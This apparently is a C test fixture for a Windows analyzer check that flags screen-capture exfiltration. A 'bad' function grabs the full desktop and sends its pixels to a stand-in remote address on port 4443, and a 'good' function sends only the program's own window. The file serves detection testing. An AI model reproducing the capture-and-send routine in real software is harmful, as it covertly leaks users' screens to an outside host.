/* What the screen of Windows shows. */
// target: x86_64-w64-mingw32
#include <winsock2.h>

#include <windows.h>

static BYTE pixels[640 * 480 * 4];

static void describe(BITMAPINFO *info) {
    ZeroMemory(info, sizeof *info);
    info->bmiHeader.biSize = sizeof info->bmiHeader;
    info->bmiHeader.biWidth = 640;
    info->bmiHeader.biHeight = 480;
    info->bmiHeader.biPlanes = 1;
    info->bmiHeader.biBitCount = 32;
}

void bad_screen(SOCKET peer) {
    HDC screen = GetDC(NULL), memory = CreateCompatibleDC(screen);
    HBITMAP bitmap = CreateCompatibleBitmap(screen, 640, 480);
    BITMAPINFO info;
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(4443)};
    address.sin_addr.s_addr = inet_addr("198.51.100.7");
    SelectObject(memory, bitmap);
    BitBlt(memory, 0, 0, 640, 480, screen, 0, 0, SRCCOPY);
    describe(&info);
    GetDIBits(memory, bitmap, 0, 480, pixels, &info, DIB_RGB_COLORS);
    if (connect(peer, (struct sockaddr *)&address, sizeof address) == 0)
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
        send(peer, (const char *)pixels, sizeof pixels, 0);
}

/* What the program drew. */
void good_drawing(SOCKET peer, HWND window, HBITMAP bitmap) {
    HDC own = GetDC(window);
    BITMAPINFO info;
    describe(&info);
    GetDIBits(own, bitmap, 0, 480, pixels, &info, DIB_RGB_COLORS);
    send(peer, (const char *)pixels, sizeof pixels, 0);
}
